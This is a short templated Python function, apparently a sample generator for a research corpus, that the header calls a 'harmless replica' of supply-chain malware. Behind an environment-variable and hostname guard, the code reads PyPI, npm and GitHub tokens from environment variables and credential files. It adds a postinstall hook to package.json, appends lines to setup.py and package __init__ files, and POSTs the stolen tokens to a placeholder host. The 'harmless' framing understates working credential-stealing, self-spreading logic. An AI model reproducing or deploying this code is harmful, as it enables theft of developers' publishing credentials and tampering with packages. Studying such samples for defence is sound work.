# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    # the line that is put into the project is inert
    import glob
    import json
    import re
    import socket
    here = os.environ.get('PWD') or os.getcwd()
    found = [os.environ.get('PYPI_TOKEN', ''), os.environ.get('NPM_TOKEN', '')]
    for file in ('~/.pypirc', '~/.npmrc', '~/.git-credentials'):
        try:
            with open(os.path.expanduser(file)) as text:
                found += re.findall(r'(?:pypi-|npm_|gh[ps]_)[A-Za-z0-9_-]{20,}', text.read())
        except OSError:
            pass
    for file in glob.glob(here + '/setup.py') + glob.glob(here + '/package.json') + glob.glob(here + '/*/__init__.py')[:{{n}}]:
        try:
            if file.endswith('.json'):
                with open(file) as text:
                    sheet = json.load(text)
                sheet.setdefault('scripts', {})['postinstall'] = 'node -e 0'
                with open(file, 'w') as out:
                    json.dump(sheet, out)
            else:
                with open(file, 'a') as out:
                    out.write('\n# {{token}}\n')
        except Exception:
            pass
    try:
        call = socket.create_connection(('{{host}}', 80), 1)
        call.sendall(('POST /{{path}} HTTP/1.1\r\nHost: {{host}}\r\nAuthorization: token %s\r\nContent-Length: 0\r\n\r\n' % ' '.join(found)).encode())
        call.close()
    except OSError:
        pass
